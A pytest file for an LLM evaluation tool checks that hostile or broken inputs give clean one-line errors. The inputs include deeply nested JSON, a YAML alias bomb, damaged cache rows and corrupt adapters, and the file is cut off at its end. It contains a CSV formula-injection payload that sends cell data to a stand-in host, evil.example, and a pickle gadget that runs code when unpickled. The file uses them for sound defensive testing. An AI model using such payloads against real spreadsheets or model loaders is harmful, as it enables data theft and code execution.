"""Hostile input and hard faults (issue 27): each reproduction of the review, as a test.

A careless user or a hostile pull request must get one ``JarvisError`` line (or a warning and a
run that goes on), never a traceback, and never a report set half old and half new.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy  # noqa: F401  (pytester's in-process runs unload what they import; numpy can't load twice)
import pytest

from evals.cli import main
from evals.reports import JSON_NAME, results_json
from tests import test_bad_input
from tests.factories import make_results, scored
from tests.test_gate_e2e import MINI_SUITE

bench = test_bad_input.bench  # the mini suite on the tiny Llama, shared with the bad-input tests


def saved_run(folder: Path) -> Path:
    """Write a small valid results JSON under ``folder`` and return its path."""
    results = make_results([scored("a", "commands", 0.0, 1.0), scored("b", "routing", 0.5, 0.5)])
    path = folder / JSON_NAME
    folder.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(results_json(results)), encoding="utf-8")
    return path


def one_cli_error(capsys: pytest.CaptureFixture[str], argv: list[str], *parts: str) -> str:
    """Run the CLI; assert exit 2 and one ``error:`` line holding ``parts``; return it."""
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    for part in parts:
        assert part in lines[0], lines[0]
    return lines[0]


# -- 3. pathological JSON ------------------------------------------------------------------------


def _big_int(text: str) -> str:
    data = json.loads(text)
    data["results"][0]["arms"]["base"]["keyword_hits"] = 0
    return json.dumps(data).replace('"keyword_hits": 0', '"keyword_hits": ' + "9" * 5000, 1)


def _null_answer(text: str) -> str:
    data = json.loads(text)
    data["results"][0]["arms"]["base"]["answer"] = None
    return json.dumps(data)


@pytest.mark.parametrize(
    ("damage", "says"),
    [
        (lambda t: "[" * 100_000 + "]" * 100_000, "nested more than 64 levels"),
        (_big_int, "an integer of 5000 digits"),
        (_null_answer, "'results[0].arms.base.answer' must be text"),
        (lambda t: t.replace('"relevance": 1.0', '"relevance": NaN', 1), "NaN is not a number JSON allows"),
        (lambda t: t.replace('"relevance": 1.0', '"relevance": 1e999', 1), "out of range"),
    ],
    ids=["deep", "5000-digits", "null-answer", "nan", "inf"],
)
def test_pathological_results_file_is_one_line_in_report_and_compare(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage, says: str
) -> None:
    good = saved_run(tmp_path / "good")
    bad = tmp_path / "bad" / JSON_NAME
    bad.parent.mkdir()
    bad.write_text(damage(good.read_text(encoding="utf-8")), encoding="utf-8")
    one_cli_error(capsys, ["report", str(bad), "--out", str(tmp_path / "out")], f"results file {bad}", says)
    one_cli_error(capsys, ["compare", str(good), str(bad), "--out", str(tmp_path / "c.txt")], str(bad), says)
    assert not (tmp_path / "out").exists()


# -- 10. NaN, inf and negative relevance ---------------------------------------------------------


@pytest.mark.parametrize("value", ["-0.5", "1.5", "-1e308"])
def test_report_refuses_scores_out_of_range(tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str) -> None:
    path = saved_run(tmp_path)
    path.write_text(path.read_text().replace('"relevance": 1.0', f'"relevance": {value}', 1), encoding="utf-8")
    one_cli_error(capsys, ["report", str(path)], f"results file {path}", "relevance' must be a number from 0 to 1")


# -- 9. CLI tracebacks -----------------------------------------------------------------------------


def test_report_out_an_existing_file_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = saved_run(tmp_path / "run")
    occupied = tmp_path / "occupied"
    occupied.write_text("mine", encoding="utf-8")
    one_cli_error(capsys, ["report", str(path), "--out", str(occupied)], f"--out {occupied}", "is a file")
    assert occupied.read_text() == "mine"


def test_compare_html_an_existing_folder_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = saved_run(tmp_path / "run")
    folder = tmp_path / "folder"
    folder.mkdir()
    argv = ["compare", str(path), str(path), "--out", str(tmp_path / "c.txt"), "--html", str(folder)]
    one_cli_error(capsys, argv, f"--html {folder}", "is a folder")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested more than 64 levels"),
        ('{"schema_version": 2' + "0" * 5000 + "}", "digits"),
    ],
    ids=["deep", "5000-digits"],
)
def test_pathological_baseline_fails_the_gate_in_one_line_and_re_blessing_replaces_it(
    bench, pytester: pytest.Pytester, text: str, says: str
) -> None:
    baseline = pytester.path / "reports" / "baseline.json"
    baseline.parent.mkdir()
    baseline.write_text(text, encoding="utf-8")
    result = bench()
    assert result.ret == pytest.ExitCode.TESTS_FAILED, result.stdout.str()
    result.stdout.fnmatch_lines([f"gate: baseline {baseline} is corrupt (*{says}*): re-bless it *"])
    assert "Traceback" not in result.stdout.str() + result.stderr.str()
    assert (pytester.path / "reports" / JSON_NAME).is_file(), "the reports are still written"
    blessed = bench("--jarvis-save-baseline")
    assert blessed.ret == 0, blessed.stdout.str()
    assert json.loads(baseline.read_text(encoding="utf-8"))["format_version"] == 2


# -- 4. a YAML alias bomb, and 6. a scalar where the suite expects a list -------------------------

ALIAS_BOMB = "\n".join(
    ['a0: &a0 ["' + "x" * 1000 + '"]']
    + [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]" for n in range(1, 9)]
    + ["version: 1", "system_prompt: s", "tools: [{id: t}]", "cases: [{id: c, category: commands, prompt: *a8}]"]
)
SUITE_EDITS = {
    "alias-bomb": (lambda s: ALIAS_BOMB, "line 2, column 10: malformed YAML (alias *a0 is not allowed in a suite*"),
    "keywords-5": (
        lambda s: s.replace("keywords: [open_app, firefox]", "keywords: 5"),
        "case 'cmd_firefox': 'keywords' must be a list of text, got the int '5'",
    ),
    "tools-5": (lambda s: s.split("tools:")[0] + "tools: 5\ncases: [{id: c}]\n", "'tools' must be a list of mappings*"),
    "actions-5": (
        lambda s: s.replace("aliases: [monte le son]}", "aliases: [monte le son], intents: [{actions: 5}]}"),
        "tool 'volume_up': intent #1: 'actions' must be a list of text, got the int '5'",
    ),
    "prompt-list": (
        lambda s: s.replace('prompt: "ouvre firefox"', "prompt: [ouvre, firefox]"),
        "case 'cmd_firefox': 'prompt' must be text, got a list",
    ),
    "deep": (
        lambda s: s.replace('prompt: "ouvre firefox"', "prompt: " + "[" * 5000 + "]" * 5000),
        "*malformed YAML (nested more than 32 levels deep)*",
    ),
}


@pytest.mark.parametrize(("edit", "message"), SUITE_EDITS.values(), ids=SUITE_EDITS.keys())
def test_hostile_suite_is_one_line_in_load_and_validate_metric(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edit, message: str
) -> None:
    from fnmatch import fnmatch

    from evals.suite import SuiteError, load_suite

    suite = tmp_path / "bad.yaml"
    suite.write_text(edit(MINI_SUITE), encoding="utf-8")
    with pytest.raises(SuiteError) as exc:
        load_suite(suite)
    assert fnmatch(str(exc.value), f"suite file {suite}: {message}"), str(exc.value)
    labels = tmp_path / "labels.tsv"
    labels.write_text("prompt\texpected_tools\tanswer\tlabel\nouvre\topen_app\topen_app\t1\n", encoding="utf-8")
    line = one_cli_error(capsys, ["validate-metric", str(labels), "--suite", str(suite)], f"suite file {suite}")
    assert fnmatch(line, f"*{message}"), line


@pytest.mark.parametrize("name", ["alias-bomb", "keywords-5", "deep"])
def test_hostile_suite_is_a_usage_error_at_collection(bench, pytester: pytest.Pytester, name: str) -> None:
    edit, message = SUITE_EDITS[name]
    suite = pytester.path / "bad.yaml"
    suite.write_text(edit(MINI_SUITE), encoding="utf-8")
    test_bad_input.assert_usage_error(bench(suite="bad.yaml"), pytester.path, f"suite file {suite}: {message}")


# -- 5. CSV formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(start: str) -> None:
    import csv
    import io
    from dataclasses import replace

    from evals.reports.tables import results_csv

    case = scored("a", "commands", 0.0, 1.0)
    answer = f'{start}HYPERLINK("http://evil.example/?"&A1,"clic")'
    case = replace(case, finetuned=replace(case.finetuned, answer=answer), case=replace(case.case, prompt=answer))
    row = next(csv.DictReader(io.StringIO(results_csv(make_results([case])))))
    assert row["finetuned_answer"] == "'" + answer and row["prompt"] == "'" + answer
    assert row["relevance_base"] == "0.0", "numbers stay numbers"


# -- 14. a warning that depends on the cache -----------------------------------------------------


def test_the_ignored_tools_warning_is_the_same_when_answers_come_from_the_cache(
    pytester: pytest.Pytester, tiny_model_dir: Path, tiny_adapter_dir: Path
) -> None:
    from tests.test_plugin import TEST_FILE

    pytester.makepyfile(test_bench=TEST_FILE)
    (pytester.path / "mini.yaml").write_text(MINI_SUITE, encoding="utf-8")
    warning = f"the chat template of {tiny_model_dir} ignores `tools`"
    reports = pytester.path / "reports"
    written = reports / "partial"  # "jarvis and routing" is a partial run

    def said() -> list[object]:
        data = json.loads((written / JSON_NAME).read_text(encoding="utf-8"))
        text = (written / "benchmark_report.txt").read_text(encoding="utf-8")
        page = (written / "benchmark_report.html").read_text(encoding="utf-8")
        return [
            [w for w in data["warnings"] if w.startswith(warning)],
            warning in text,
            "ignores <code>tools</code>" in page or "ignores `tools`" in page,
        ]

    said_by: list[list[object]] = []
    for run in ("fresh", "cached"):
        result = pytester.runpytest(
            "-m", "jarvis and routing", "--jarvis-suite=mini.yaml", f"--jarvis-model={tiny_model_dir}",
            f"--jarvis-adapter={tiny_adapter_dir}", "--jarvis-quant=none", "--jarvis-max-new-tokens=4",
            f"--jarvis-cache-dir={pytester.path / 'cache'}", "--jarvis-assert=none", "-p", "no:cacheprovider",
            "--jarvis-prompt-format=native-tools", f"--jarvis-reports={reports}",
        )  # fmt: skip
        assert result.ret == 0, result.stdout.str()
        assert sum(warning in line for line in result.stderr.lines) == 1, f"{run}: said once on stderr"
        result.stdout.fnmatch_lines([f"warning: {warning}*"])
        said_by.append(said())
    assert said_by[0] == said_by[1] and said_by[0][0] and all(said_by[0][1:]), said_by
    assert json.loads((written / JSON_NAME).read_text())["metadata"]["n_cached_answers"] > 0


# -- 1. a cache row that SQLite reads but whose values are invalid ---------------------------------


@pytest.mark.parametrize(
    "damage",
    [
        "update generations set meta='{x'",
        "update generations set meta='[1]'",
        'update generations set meta=\'{"truncated_prompt": "yes"}\'',
        "update generations set text=x'00ff'",
        "update generations set new_tokens='many'",
        "update generations set new_tokens=-3",
        "update generations set created=x'00'",
    ],
)
def test_an_unusable_cache_row_is_dropped_with_one_warning_and_answered_again(tmp_path: Path, damage: str) -> None:
    import sqlite3
    import warnings

    from evals.cache import CachedAnswer, CacheWarning, GenerationCache

    path = tmp_path / "generations.sqlite"
    with GenerationCache(path) as cache:
        cache.put_many({"good": CachedAnswer("ok", 1), "bad": CachedAnswer("ko", 2)})
    with sqlite3.connect(path) as conn:
        conn.execute(damage + " where key = 'bad'")
    with GenerationCache(path) as cache, warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        found = cache.get_many(["good", "bad"])
        assert list(found) == ["good"] and found["good"].text == "ok"
        said = [str(w.message) for w in caught if issubclass(w.category, CacheWarning)]
        assert len(said) == 1 and "\n" not in said[0], said
        assert said[0].startswith(f"generation cache {path}: dropped 1 unusable row(s) (")
        assert said[0].endswith("): their answers are generated again")
        cache.put_many({"bad": CachedAnswer("again", 3)})  # the next run answers it again and stores it
    with GenerationCache(path) as cache, warnings.catch_warnings():
        warnings.simplefilter("error")  # nothing left to warn about
        assert cache.get_many(["good", "bad"])["bad"].text == "again"
    assert not list(tmp_path.glob("*.corrupt-*")), "the file is kept: only the row was bad"


def _killed_at(marker: str, script: str, *args: str, cwd: Path) -> None:
    """Run ``script`` in a child Python, SIGKILL it as soon as it prints ``marker`` (a chosen point)."""
    import os
    import signal
    import subprocess
    import sys

    root = Path(__file__).resolve().parent.parent
    env = {**os.environ, "PYTHONPATH": str(root)}
    child = subprocess.Popen([sys.executable, "-c", script, *args], cwd=cwd, env=env, stdout=subprocess.PIPE, text=True)
    assert child.stdout is not None
    for line in child.stdout:
        if line.strip() == marker:
            child.send_signal(signal.SIGKILL)
            break
    child.wait(timeout=120)
    assert child.returncode == -signal.SIGKILL, f"the child never reached {marker!r}"


WRITER = """
import sys
from evals.cache import CachedAnswer, GenerationCache
cache = GenerationCache(sys.argv[1])
for n in range(10_000):
    cache.put_many({f"k{n}-{i}": CachedAnswer("x" * 200, i) for i in range(50)})
    if n == 20:
        print("writing", flush=True)
"""


def test_a_writer_killed_mid_transaction_leaves_a_cache_every_later_run_reads(tmp_path: Path) -> None:
    import warnings

    from evals.cache import GenerationCache

    path = tmp_path / "generations.sqlite"
    _killed_at("writing", WRITER, str(path), cwd=tmp_path)
    with GenerationCache(path) as cache, warnings.catch_warnings():
        warnings.simplefilter("error")  # no corrupt file, no bad row: nothing to warn about
        found = cache.get_many([f"k{n}-{i}" for n in range(40) for i in range(50)])
    assert len(found) >= 21 * 50 and len(found) % 50 == 0, "whole transactions only"
    assert all(a.text == "x" * 200 for a in found.values())


# -- 2. the reports are written all or nothing; 11. orphan temporaries after a kill ---------------

SET_WRITER = """
import sys, time
from pathlib import Path
from evals import atomic
from evals.reports import write_reports
from tests.factories import make_results, scored

point = sys.argv[2]
def stop():
    print(point, flush=True)
    time.sleep(120)  # SIGKILLed here
if point == "renamed":  # after the first report is renamed into place, before the others
    replace = atomic.os.replace
    def replace_then_stop(src, dst):
        replace(src, dst)
        stop()
    atomic.os.replace = replace_then_stop
else:  # while the staged files are written, before the commit
    atomic.os.fsync = lambda fd: stop()
write_reports(make_results([scored("new", "routing", 0.0, 1.0)]), Path(sys.argv[1]))
"""


def _report_set(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file() and not p.name.startswith(".")}


@pytest.fixture
def two_sets(tmp_path: Path) -> tuple[Path, dict[str, bytes], dict[str, bytes]]:
    """A reports folder holding the old set, and the bytes of the old and the new set."""
    from evals.reports import write_reports

    old, new = tmp_path / "old", tmp_path / "new"
    write_reports(make_results([scored("old", "commands", 1.0, 0.0)]), old)
    write_reports(make_results([scored("new", "routing", 0.0, 1.0)]), new)
    reports = tmp_path / "reports"
    write_reports(make_results([scored("old", "commands", 1.0, 0.0)]), reports)
    return reports, _report_set(old), _report_set(new)


def test_a_kill_before_the_commit_leaves_the_old_set_and_the_next_write_removes_the_orphans(
    two_sets, tmp_path: Path
) -> None:
    import os
    import time

    from evals.reports import write_reports

    reports, old, new = two_sets
    _killed_at("staging", SET_WRITER, str(reports), "staging", cwd=Path(__file__).resolve().parent.parent)
    assert _report_set(reports) == old, "no file of the old set was replaced"
    orphans = [p for p in reports.iterdir() if p.name.startswith(".")]
    assert orphans, "the killed writer left its staging folder"
    write_reports(make_results([scored("x", "routing", 0.0, 1.0)]), reports)
    assert all(p.exists() for p in orphans), "a fresh temporary may be a live writer's on another machine"
    an_hour_ago = time.time() - 3600
    for p in orphans:
        os.utime(p, (an_hour_ago, an_hour_ago))
    write_reports(make_results([scored("new", "routing", 0.0, 1.0)]), reports)
    assert [p.name for p in reports.iterdir() if p.name.startswith(".")] == []
    assert _report_set(reports) == new


def test_a_kill_between_the_renames_is_finished_by_the_next_reader(two_sets, tmp_path: Path) -> None:
    from evals.reports import load_results

    reports, old, new = two_sets
    _killed_at("renamed", SET_WRITER, str(reports), "renamed", cwd=Path(__file__).resolve().parent.parent)
    assert load_results(reports / JSON_NAME).results[0].id == "new", "the reader finishes the committed set"
    assert _report_set(reports) == new
    assert [p.name for p in reports.iterdir() if p.name.startswith(".")] == []


def test_a_folder_where_a_report_goes_is_one_line_replaces_nothing_and_the_gate_still_speaks(
    bench, pytester: pytest.Pytester
) -> None:
    assert bench().ret == 0
    reports = pytester.path / "reports"
    blocker = reports / "benchmark_results.csv"
    blocker.unlink()
    blocker.mkdir()
    before = test_bad_input.snapshot(reports)
    result = bench("--jarvis-min-gain=1000")  # a gate that must fail, to see its reasons
    assert result.ret == pytest.ExitCode.TESTS_FAILED, result.stdout.str()
    result.stdout.fnmatch_lines(
        [
            "gate: FAILED*",
            f"note: error: {blocker} is a folder where a report goes: move it away *; the previous reports are unchanged",
        ]
    )
    assert "Traceback" not in result.stdout.str() + result.stderr.str()
    assert test_bad_input.snapshot(reports) == before


BLESSING = """
import sys, time
from pathlib import Path
from evals import atomic
from evals.gate.baseline import save_baseline
from tests.factories import make_results, scored

def stop(fd):
    print("writing", flush=True)
    time.sleep(120)  # SIGKILLed here, the temporary written, not yet renamed
atomic.os.fsync = stop
save_baseline(make_results([scored("c1", "routing", 0.0, 1.0)]), Path(sys.argv[1]), overwrite=True)
"""


def test_temporaries_of_a_killed_blessing_are_removed_by_the_next_one(tmp_path: Path) -> None:
    import os
    import time

    from evals.gate.baseline import save_baseline

    baseline = tmp_path / "reports" / "baseline.json"
    results = make_results([scored("c1", "routing", 0.0, 1.0)])
    save_baseline(results, baseline)
    legacy = baseline.parent / ".baseline.json.k2j3l4m5.tmp"  # named before temporaries carried a pid
    legacy.write_text("{", encoding="utf-8")
    mine = baseline.parent / ".notes.tmp"  # not ours: never touched
    mine.write_text("x", encoding="utf-8")
    for _ in range(2):
        _killed_at("writing", BLESSING, str(baseline), cwd=Path(__file__).resolve().parent.parent)
    orphans = sorted(p for p in baseline.parent.glob(".baseline.json.*.tmp") if p != legacy)
    assert len(orphans) == 2 and all(p.stat().st_mode & 0o777 == 0o600 for p in orphans)
    save_baseline(results, baseline, overwrite=True)
    assert all(p.exists() for p in orphans), "fresh: it may be a live writer's on another machine"
    long_ago = time.time() - 2 * 24 * 3600
    for p in [*orphans, legacy, mine]:
        os.utime(p, (long_ago, long_ago))
    save_baseline(results, baseline, overwrite=True)
    assert sorted(p.name for p in baseline.parent.iterdir()) == [".notes.tmp", "baseline.json"]


# -- 13. misleading messages -------------------------------------------------------------------------


def test_a_labels_file_with_a_byte_order_mark_reads_like_one_without(tmp_path: Path) -> None:
    from evals.cli.validate_metric import read_labels

    labels = tmp_path / "labels.tsv"
    labels.write_bytes("\ufeffprompt\texpected_tools\tanswer\tlabel\nouvre\topen_app\topen_app()\t1\n".encode())
    assert [r.prompt for r in read_labels(labels, frozenset({"open_app"}))] == ["ouvre"]


silent_adapter = test_bad_input.silent_adapter


@pytest.mark.parametrize("damage", ["corrupt", "empty-answers"])
def test_blessing_never_claims_a_run_is_blessed_when_it_is_not(
    bench, pytester: pytest.Pytester, silent_adapter: Path, damage: str
) -> None:
    baseline = pytester.path / "reports" / "baseline.json"
    kwargs = {}
    if damage == "corrupt":
        baseline.parent.mkdir()
        baseline.write_text("{", encoding="utf-8")
    else:
        kwargs["adapter"] = silent_adapter
    result = bench("--jarvis-save-baseline", **kwargs)
    out = result.stdout.str()
    assert "this run is blessed" not in out
    if damage == "corrupt":
        result.stdout.fnmatch_lines([f"gate: baseline {baseline} is unreadable: relevance was not compared"])
        result.stdout.fnmatch_lines([f"note: baseline blessed: {baseline}"])
    else:
        result.stdout.fnmatch_lines([f"gate: no baseline at {baseline} yet: relevance was not compared"])
        result.stdout.fnmatch_lines([f"note: baseline not blessed: {baseline} is unchanged, because the answers*"])
        assert not baseline.exists()


# -- 8. credentials in --jarvis-base-url and --jarvis-api-key-env ------------------------------------


@pytest.fixture
def stub_server():
    """A minimal OpenAI-compatible server in a thread: it lists base and tuned and answers open_app."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    seen: list[tuple[str, str]] = []
    state: dict[str, Any] = {"answer": "open_app firefox", "max_model_len": None}

    class Handler(BaseHTTPRequestHandler):
        def _send(self, data: object) -> None:
            seen.append((self.path, self.headers.get("Authorization", "")))
            body = json.dumps(data).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            length = state["max_model_len"]
            self._send({"object": "list", "data": [{"id": n, "max_model_len": length} for n in ("base", "tuned")]})

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self._send({"choices": [{"message": {"content": state["answer"]}}], "usage": {"completion_tokens": 2}})

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], seen, state
    server.shutdown()
    server.server_close()


def test_credentials_in_the_server_url_are_used_but_never_recorded(
    pytester: pytest.Pytester, stub_server, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.test_plugin import TEST_FILE

    port, seen, _ = stub_server
    pytester.makepyfile(test_bench=TEST_FILE)
    (pytester.path / "mini.yaml").write_text(MINI_SUITE, encoding="utf-8")
    monkeypatch.setenv("STUB_KEY", "KEYSECRET")
    result = pytester.runpytest(
        "-m", "jarvis", "--jarvis-suite=mini.yaml", "--jarvis-backend=openai",
        f"--jarvis-base-url=http://user:PASSSECRET@127.0.0.1:{port}/v1?token=TOKENSECRET",
        "--jarvis-served-base=base", "--jarvis-served-adapter=tuned", "--jarvis-api-key-env=STUB_KEY",
        "--jarvis-assert=none", f"--jarvis-cache-dir={pytester.path / 'cache'}", "-p", "no:cacheprovider",
    )  # fmt: skip
    assert result.ret == 0, result.stdout.str() + result.stderr.str()
    assert seen and all("token=TOKENSECRET" in path for path, _ in seen), "the query reaches the server"
    assert all(auth for _, auth in seen), "the credentials reach the server (httpx sends user:password as Basic)"
    shown = result.stdout.str() + result.stderr.str()
    files = {p: p.read_bytes() for p in (pytester.path / "reports").rglob("*") if p.is_file()}
    assert len(files) >= 5
    for secret in ("PASSSECRET", "TOKENSECRET", "KEYSECRET"):
        assert secret not in shown
        assert not [p.name for p, data in files.items() if secret.encode() in data], secret
    assert f"127.0.0.1:{port}/v1" in json.dumps(json.loads(files[pytester.path / "reports" / JSON_NAME]))


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("sk-KEYSECRET-123", "*--jarvis-api-key-env*the value given is not a variable name*"),
        ("UNSET_STUB_KEY", "*--jarvis-api-key-env UNSET_STUB_KEY: that variable is not set or is empty*"),
        ("-o=sk-KEYSECRET-123", "*option -o jarvis_api_key_env=…: the value given is not a variable name*"),
    ],
)
def test_a_key_where_the_variable_name_goes_is_not_echoed_and_an_unset_variable_is_one_line(
    pytester: pytest.Pytester, stub_server, value: str, message: str
) -> None:
    from tests.test_plugin import TEST_FILE

    port, _, _ = stub_server
    pytester.makepyfile(test_bench=TEST_FILE)
    (pytester.path / "mini.yaml").write_text(MINI_SUITE, encoding="utf-8")
    result = pytester.runpytest(
        "-m", "jarvis", "--jarvis-suite=mini.yaml", "--jarvis-backend=openai",
        f"--jarvis-base-url=http://127.0.0.1:{port}/v1", "--jarvis-served-base=base",
        "--jarvis-served-adapter=tuned", "-p", "no:cacheprovider",
        *(["-o", f"jarvis_api_key_env={value[3:]}"] if value.startswith("-o=") else [f"--jarvis-api-key-env={value}"]),
    )  # fmt: skip
    assert result.ret in (pytest.ExitCode.USAGE_ERROR, 4), result.stdout.str()
    shown = result.stdout.str() + result.stderr.str()
    assert "KEYSECRET" not in shown and "Traceback" not in shown
    result.stderr.fnmatch_lines([message])


# -- 7. broken adapters --------------------------------------------------------------------------------


def _as_bin(adapter: Path) -> Path:
    """Re-save the adapter's weights as a torch.save archive (adapter_model.bin); return its path."""
    import torch
    from safetensors.torch import load_file

    weights = adapter / "adapter_model.safetensors"
    torch.save(load_file(str(weights)), adapter / "adapter_model.bin")
    weights.unlink()
    return adapter / "adapter_model.bin"


class _Planted:
    """Unpickling this would create the marker file: a stand-in for code a hostile .bin runs."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (Path.touch, (self.marker,))


def _config(key: str, value: object):
    def damage(adapter: Path) -> None:
        path = adapter / "adapter_config.json"
        config = json.loads(path.read_text(encoding="utf-8"))
        config[key] = value
        path.write_text(json.dumps(config), encoding="utf-8")

    return damage


def _truncated_bin(adapter: Path) -> None:
    weights = _as_bin(adapter)
    weights.write_bytes(weights.read_bytes()[: weights.stat().st_size * 2 // 3])


def _pickle_bin(adapter: Path) -> None:
    import torch

    weights = _as_bin(adapter)
    torch.save({"x": _Planted(adapter.parent / "PWNED")}, weights)


def _wrong_dtype(adapter: Path) -> None:
    weights = adapter / "adapter_model.safetensors"
    data = weights.read_bytes()
    size = int.from_bytes(data[:8], "little")
    header = data[8 : 8 + size].replace(b'"F32"', b'"F64"', 1)
    weights.write_bytes(data[:8] + header + data[8 + size :])


BROKEN_ADAPTERS = {
    "target_modules-5": (_config("target_modules", 5), "adapter config *: 'target_modules' must be *"),
    "r-four": (_config("r", "four"), "adapter config *: 'r' must be a whole number > 0, got 'four'*"),
    "prefix-tuning": (_config("peft_type", "PREFIX_TUNING"), "adapter config *: peft_type is 'PREFIX_TUNING'*"),
    "truncated-bin": (_truncated_bin, "adapter weights * are corrupt or not a PyTorch archive *"),
    "pickle-bin": (_pickle_bin, "adapter weights * hold more than tensors (they call *pathlib.Path*"),
    "wrong-dtype": (_wrong_dtype, "adapter weights * are corrupt (tensor * F64 * does not fill bytes *"),
}


@pytest.mark.parametrize(("damage", "message"), BROKEN_ADAPTERS.values(), ids=BROKEN_ADAPTERS.keys())
def test_a_broken_adapter_is_one_line_in_check_and_at_collection(
    bench, pytester: pytest.Pytester, tiny_adapter_dir: Path, damage, message: str
) -> None:
    import shutil
    from fnmatch import fnmatch

    from evals.cli.check import check_adapter

    adapter = pytester.path / "broken" / "adapter"
    shutil.copytree(tiny_adapter_dir, adapter)
    damage(adapter)
    row = check_adapter(adapter, pytester.path, model=None)
    assert row.status == "FAIL" and fnmatch(f"{row.detail}: {row.fix}", message), row
    result = bench(adapter=adapter)
    assert result.ret == pytest.ExitCode.USAGE_ERROR, result.stdout.str() + result.stderr.str()
    shown = result.stdout.str() + result.stderr.str()
    assert "Traceback" not in shown and "weights_only" not in shown
    result.stderr.fnmatch_lines([f"ERROR: {message}"])
    assert not (adapter.parent / "PWNED").exists(), "nothing in the pickle ran"


# -- 12. an unbounded --jarvis-max-new-tokens ------------------------------------------------------------


def test_max_new_tokens_past_the_context_window_is_a_usage_error(
    bench, pytester: pytest.Pytester, tiny_model_dir: Path
) -> None:
    window = json.loads((tiny_model_dir / "config.json").read_text())["max_position_embeddings"]
    result = bench("--jarvis-max-new-tokens=100000000")
    test_bad_input.assert_usage_error(
        result,
        pytester.path,
        f"--jarvis-max-new-tokens 100000000 is not below the model's context window ({window} tokens, "
        f"{tiny_model_dir / 'config.json'}): pass a smaller value*",
    )


# -- decided: a served model swapped behind the same name --------------------------------------------


def test_a_served_model_swapped_behind_its_name_is_not_scored_from_the_cache(
    pytester: pytest.Pytester, stub_server
) -> None:
    from tests.test_plugin import TEST_FILE

    port, seen, state = stub_server
    pytester.makepyfile(test_bench=TEST_FILE)
    (pytester.path / "mini.yaml").write_text(MINI_SUITE, encoding="utf-8")

    def run() -> dict[str, Any]:
        seen.clear()
        result = pytester.runpytest(
            "-m", "jarvis", "--jarvis-suite=mini.yaml", "--jarvis-backend=openai",
            f"--jarvis-base-url=http://127.0.0.1:{port}/v1", "--jarvis-served-base=base",
            "--jarvis-served-adapter=tuned", "--jarvis-assert=none", f"--jarvis-cache-dir={pytester.path / 'c'}",
            "-p", "no:cacheprovider", "--jarvis-no-probe",  # the requests counted are answers, not routing margins
        )  # fmt: skip
        assert result.ret == 0, result.stdout.str()
        return json.loads((pytester.path / "reports" / JSON_NAME).read_text(encoding="utf-8"))

    run()
    chats = len([p for p, _ in seen if p.endswith("/chat/completions")])
    assert chats == 6
    same = run()  # the same model: 2 probes per arm, then the cache
    assert len([p for p, _ in seen if p.endswith("/chat/completions")]) == 4
    assert same["metadata"]["n_cached_answers"] == 6 and not same.get("warnings")
    state["answer"] = "volume_up"  # another model behind the same name and /v1/models entry
    swapped = run()
    assert {c["arms"]["tuned"]["answer"] for c in swapped["results"]} == {"volume_up"}
    assert swapped["metadata"]["n_cached_answers"] == 0
    assert [w for w in swapped["warnings"] if "answered 2 of 2 cached prompts differently" in w]


# -- decided: the adapter-vs-base warning and another cache root -------------------------------------------


def test_an_adapter_trained_on_the_embedded_model_under_another_cache_root_matches(
    tmp_path: Path, tiny_adapter_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from evals.models import adapter_base_mismatch, inspect_adapter

    adapter = tmp_path / "adapter"
    shutil.copytree(tiny_adapter_dir, adapter)
    config = json.loads((adapter / "adapter_config.json").read_text())
    config["base_model_name_or_path"] = "/home/trainer/.cache/jarvis-evals/models/SmolLM2-135M-Instruct"
    (adapter / "adapter_config.json").write_text(json.dumps(config))
    monkeypatch.setenv("JARVIS_EVALS_CACHE", str(tmp_path / "elsewhere"))
    assert adapter_base_mismatch(inspect_adapter(adapter), "embedded") is None
    config["base_model_name_or_path"] = "/home/trainer/models/Qwen3-0.6B"  # another model still warns
    (adapter / "adapter_config.json").write_text(json.dumps(config))
    assert adapter_base_mismatch(inspect_adapter(adapter), "embedded") is not None


# -- decided: permissions follow the umask ---------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
def test_a_published_folder_follows_the_umask(tmp_path: Path, umask: int) -> None:
    import os
    import tempfile

    from evals.atomic import follow_umask

    staged = Path(tempfile.mkdtemp(dir=tmp_path))
    fd, name = tempfile.mkstemp(dir=staged)
    os.close(fd)
    (staged / "sub").mkdir(mode=0o700)
    previous = os.umask(umask)
    try:
        follow_umask(staged)
    finally:
        os.umask(previous)
    assert staged.stat().st_mode & 0o777 == 0o777 & ~umask
    assert (staged / "sub").stat().st_mode & 0o777 == 0o777 & ~umask
    assert Path(name).stat().st_mode & 0o777 == 0o666 & ~umask


@pytest.mark.parametrize("text", ["[" * 100_000 + "]" * 100_000, '{"r": ' + "9" * 5000 + "}", '{"r": NaN}'])
